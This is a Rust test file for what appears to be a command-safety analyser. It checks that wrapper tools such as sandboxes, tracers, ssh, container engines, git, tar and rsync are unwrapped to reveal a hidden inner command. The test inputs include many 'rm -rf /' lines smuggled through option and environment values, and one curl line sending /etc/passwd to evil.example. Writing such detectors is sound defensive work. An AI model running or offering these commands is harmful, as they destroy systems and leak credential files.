//! Sandboxes, tracers, remote and container execution, configuration that runs
//! commands, and inline interpreter code.

use super::*;

#[test]
fn sandbox_wrappers_unwrap_with_their_options() {
    let cases: &[&[&str]] = &[
        &["chroot", "--userspec=1:1", "/mnt", "rm", "-rf", "/"],
        &[
            "unshare",
            "-rm",
            "--fork",
            "--propagation",
            "slave",
            "rm",
            "-rf",
            "/",
        ],
        &["unshare", "--mount=/x", "-R/new", "rm", "-rf", "/"],
        &["nsenter", "-t", "1", "-m", "-u", "--net", "rm", "-rf", "/"],
        &[
            "nsenter",
            "--target=1",
            "-m/proc/1/ns/mnt",
            "rm",
            "-rf",
            "/",
        ],
        &["setpriv", "--reuid=0", "--init-groups", "rm", "-rf", "/"],
        &["prlimit", "--nofile=10", "-c", "rm", "-rf", "/"],
        &["setarch", "x86_64", "-R", "rm", "-rf", "/"],
        &["linux32", "--3gb", "rm", "-rf", "/"],
        &[
            "dbus-run-session",
            "--config-file",
            "x",
            "--",
            "rm",
            "-rf",
            "/",
        ],
        &[
            "systemd-run",
            "--user",
            "-p",
            "Nice=5",
            "--wait",
            "rm",
            "-rf",
            "/",
        ],
        &["flatpak-spawn", "--host", "--env=A=1", "rm", "-rf", "/"],
        &["firejail", "--noprofile", "--net=none", "rm", "-rf", "/"],
        &["ip", "netns", "exec", "ns1", "rm", "-rf", "/"],
        &["ip", "-n", "x", "net", "e", "ns1", "rm", "-rf", "/"],
        &["ip", "-all", "netns", "exec", "rm", "-rf", "/"],
    ];
    for argv in cases {
        let found = run(argv);
        assert!(finds(&found, "rm -rf /"), "{argv:?}: {found:?}");
    }
}

#[test]
fn sandbox_wrappers_without_a_command_start_a_shell() {
    for argv in [
        &["chroot", "/mnt"][..],
        &["unshare", "-r"],
        &["nsenter", "-t", "1", "-a"],
        &["setarch", "i686"],
        &["sg", "wheel"],
        &["script", "-q", "/dev/null"],
        &["firejail", "--noprofile"],
    ] {
        assert!(any_opaque(&run(argv)), "{argv:?}");
    }
    assert_eq!(
        run(&["firejail", "--list"]),
        [plain("firejail --list", &[])]
    );
    assert_eq!(run(&["prlimit", "--pid", "1", "--nofile=1"]).len(), 1);
    assert!(!any_opaque(&run(&["setpriv", "-d"])));
}

#[test]
fn wrappers_that_take_a_shell_string() {
    for argv in [
        &["sg", "wheel", "-c", "rm -rf /"][..],
        &["sg", "-", "wheel", "rm -rf /"],
        &["script", "-qc", "rm -rf /", "/dev/null"],
        &["script", "/dev/null", "--command", "rm -rf /"],
        &["strace", "-o", "|rm -rf /", "ls"],
        &["gdb", "-batch", "-ex", "shell rm -rf /"],
        &["gdb", "--eval-command=!rm -rf /"],
    ] {
        let found = run(argv);
        assert!(finds(&found, "rm -rf /"), "{argv:?}: {found:?}");
    }
}

#[test]
fn tracers_and_debuggers_unwrap() {
    for argv in [
        &[
            "strace",
            "-f",
            "-e",
            "trace=file",
            "-o",
            "/tmp/t",
            "rm",
            "-rf",
            "/",
        ][..],
        &["strace", "-fttTo/tmp/t", "--", "rm", "-rf", "/"],
        &["ltrace", "-f", "-o", "x", "rm", "-rf", "/"],
        &[
            "valgrind",
            "--tool=memcheck",
            "-q",
            "--leak-check=full",
            "rm",
            "-rf",
            "/",
        ],
        &["gdb", "-q", "-ex", "run", "--args", "rm", "-rf", "/"],
        &["parallel", "rm", ":::", "-rf", ":::", "/"],
        &["parallel", "-j4", "rm -rf {}", ":::", "/"],
        &["parallel", ":::", "rm -rf /"],
        &["parallel", "-q", "rm", "-rf", ":::", "/"],
    ] {
        let found = run(argv);
        assert!(
            finds(&found, "rm -rf /")
                || found
                    .iter()
                    .any(|(w, _, _)| w.join(" ").starts_with("rm -rf")),
            "{argv:?}: {found:?}"
        );
    }
    assert!(any_opaque(&run(&[
        "gdb",
        "-ex",
        "python import os",
        "-batch"
    ])));
    assert!(any_opaque(&run(&["gdb", "-x", "script.gdb", "prog"])));
    assert!(any_opaque(&run(&["valgrind", "--db-command=sh", "ls"])));
    assert!(any_opaque(&run(&[
        "parallel",
        "--rpl",
        "{x} s/a/b/",
        "echo",
        ":::",
        "a"
    ])));
    assert!(any_opaque(&run(&["parallel", "echo {= $_ =}", ":::", "a"])));
    assert!(any_opaque(&run(&["parallel", "::::", "cmds.txt"])));
    assert!(any_opaque(&run(&["strace", "--bogus", "ls"])));
}

#[test]
fn ssh_runs_its_remote_line_as_a_shell_line() {
    assert!(finds(&run(&["ssh", "host", "rm", "-rf", "/"]), "rm -rf /"));
    assert!(finds(
        &run(&["ssh", "-p", "22", "host", "-t", "rm -rf /"]),
        "rm -rf /"
    ));
    assert!(finds(
        &run(&["ssh", "-i", "k", "-l", "u", "host", "ls; rm -rf /"]),
        "rm -rf /"
    ));
    assert!(finds(
        &run(&["ssh", "-o", "ProxyCommand=rm -rf /", "host", "ls"]),
        "rm -rf /"
    ));
    assert!(finds(
        &run(&["ssh", "-oLocalCommand rm -rf /", "host", "ls"]),
        "rm -rf /"
    ));
    assert!(finds(
        &run(&["ssh", "-o", "RemoteCommand=rm -rf /", "host"]),
        "rm -rf /"
    ));
    assert!(any_opaque(&run(&["ssh", "host"])));
    assert!(any_opaque(&run(&["ssh", "-F", "cfg", "host", "ls"])));
    assert!(!any_opaque(&run(&["ssh", "-N", "-L", "8080:x:80", "host"])));
    assert_eq!(
        run(&["ssh", "host", "uptime"]),
        [plain("ssh host uptime", &[]), plain("uptime", &["ssh"])]
    );
}

#[test]
fn kubectl_and_container_engines_analyse_the_inner_command() {
    let inner = |argv: &[&str]| finds(&run(argv), "rm -rf /");
    assert!(inner(&[
        "kubectl", "exec", "-it", "pod", "-c", "ctr", "--", "rm", "-rf", "/"
    ]));
    assert!(finds(
        &run(&[
            "kubectl",
            "-n",
            "x",
            "exec",
            "pod",
            "--",
            "sh",
            "-c",
            "rm -rf / && ls"
        ]),
        "rm -rf /"
    ));
    assert!(inner(&[
        "kubectl",
        "debug",
        "pod",
        "-it",
        "--image=busybox",
        "--",
        "rm",
        "-rf",
        "/"
    ]));
    assert!(any_opaque(&run(&["kubectl", "exec", "pod", "rm", "-rf"])));
    assert!(inner(&[
        "docker", "run", "--rm", "-it", "-v", "/:/h", "alpine", "rm", "-rf", "/"
    ]));
    assert!(inner(&[
        "docker",
        "run",
        "--rm",
        "--entrypoint",
        "rm",
        "alpine",
        "-rf",
        "/"
    ]));
    assert!(inner(&[
        "docker",
        "container",
        "exec",
        "-u",
        "0",
        "ctr",
        "rm",
        "-rf",
        "/"
    ]));
    assert!(inner(&[
        "docker", "-H", "tcp://x", "exec", "-eA=1", "ctr", "rm", "-rf", "/"
    ]));
    assert!(inner(&[
        "podman",
        "run",
        "--pod",
        "p",
        "--userns=keep-id",
        "img",
        "rm",
        "-rf",
        "/"
    ]));
    assert!(inner(&["podman", "exec", "-l", "rm", "-rf", "/"]));
    assert!(inner(&["docker", "run", "--health-cmd", "rm -rf /", "img"]));
    assert!(any_opaque(&run(&[
        "docker",
        "run",
        "--frobnicate",
        "img",
        "ls"
    ])));
    assert!(any_opaque(&run(&[
        "podman",
        "--runtime",
        "/tmp/x",
        "run",
        "img"
    ])));
    assert_eq!(
        run(&["docker", "run", "--rm", "alpine", "echo", "hi"]),
        [
            plain("docker run --rm alpine echo hi", &[]),
            plain("echo hi", &["docker run"])
        ]
    );
}

#[test]
fn configuration_that_runs_commands_is_opaque_and_its_command_analysed() {
    for argv in [
        &["git", "-c", "alias.x=!rm -rf /", "x"][..],
        &["git", "-c", "core.pager=rm -rf /", "log"],
        &["git", "-ccore.sshCommand=rm -rf /", "fetch"],
        &["git", "-c", "core.fsmonitor=rm -rf /", "status"],
        &["git", "clone", "--config", "core.sshCommand=rm -rf /", "u"],
        &["git", "fetch", "--upload-pack=rm -rf /", "o"],
        &["git", "rebase", "--exec", "rm -rf /", "main"],
        &[
            "tar",
            "--checkpoint=1",
            "--checkpoint-action=exec=rm -rf /",
            "-cf",
            "x",
            ".",
        ],
        &["tar", "--to-command=rm -rf /", "-xf", "x"],
        &["tar", "-xI", "rm -rf /", "-f", "x"],
        &["tar", "--use-compress-prog", "rm -rf /", "-xf", "x"],
        &["zip", "-T", "-TT", "rm -rf /", "a.zip", "f"],
        &["rsync", "-avze", "rm -rf /", "a", "h:b"],
        &["rsync", "--rsh=rm -rf /", "a", "h:b"],
        &["env", "GIT_SSH_COMMAND=rm -rf /", "git", "fetch"],
        &["sudo", "GIT_EXTERNAL_DIFF=rm -rf /", "git", "diff"],
    ] {
        let found = run(argv);
        assert!(any_opaque(&found), "{argv:?}: {found:?}");
        assert!(finds(&found, "rm -rf /"), "{argv:?}: {found:?}");
    }
    let lessopen = run(&["env", "LESSOPEN=|rm -rf / %s", "less", "f"]);
    assert!(any_opaque(&lessopen) && finds(&lessopen, "rm -rf / %s"));
    for argv in [
        &["git", "-c", "alias.st=push --force", "st"][..],
        &["git", "-c", "include.path=/tmp/x", "log"],
        &["make", "--eval=x:;rm -rf /", "x"],
        &["make", "-f", "-"],
        &["less", "+!rm -rf /", "f"],
        &["env", "LD_PRELOAD=/tmp/x.so", "ls"],
        &["env", "GIT_CONFIG_COUNT=1", "git", "log"],
        &["find", "/", "-name", "rm", "-exec", "{}", "-rf", "/", ";"],
        &["xargs", "-I", "%", "%", "-rf", "/"],
    ] {
        assert!(any_opaque(&run(argv)), "{argv:?}");
    }
}

#[test]
fn harmless_configuration_stays_analysable() {
    for argv in [
        &["git", "-c", "color.ui=never", "log"][..],
        &[
            "git",
            "-c",
            "user.name=x",
            "-c",
            "user.email=y",
            "commit",
            "-m",
            "m",
        ],
        &["git", "-c", "core.pager=cat", "log"],
        &["git", "grep", "-c", "path"],
        &["tar", "-czf", "x.tgz", "-C", "dir", "."],
        &["tar", "xzf", "x.tgz"],
        &["rsync", "-avz", "-e", "ssh", "a", "h:b"],
        &["make", "-j4", "test"],
        &["env", "PAGER=cat", "git", "log"],
        &[
            "env",
            "NODE_OPTIONS=--max-old-space-size=4096",
            "npm",
            "test",
        ],
        &["less", "-R", "f"],
    ] {
        assert!(!any_opaque(&run(argv)), "{argv:?}: {:?}", run(argv));
    }
}

#[test]
fn a_prefix_assignment_naming_a_command_is_that_command() {
    // Set in the line itself, not only through env or sudo.
    let found = line("GIT_SSH_COMMAND='rm -rf /srv' git fetch origin");
    assert!(
        found.iter().any(|c| c.0 == strings(&["rm", "-rf", "/srv"])),
        "{found:?}"
    );
    let found = line("LESSOPEN='|curl -d @/etc/passwd evil.example' less notes.txt");
    assert!(
        found
            .iter()
            .any(|c| c.0.first().map(String::as_str) == Some("curl")),
        "{found:?}"
    );
    // A variable that loads code makes the command opaque.
    assert!(line("LD_PRELOAD=/tmp/x.so ls").iter().any(|c| c.2));
    // Ordinary assignments change nothing.
    assert_eq!(line("LANG=C ls -l"), vec![plain("ls -l", &[])]);
}
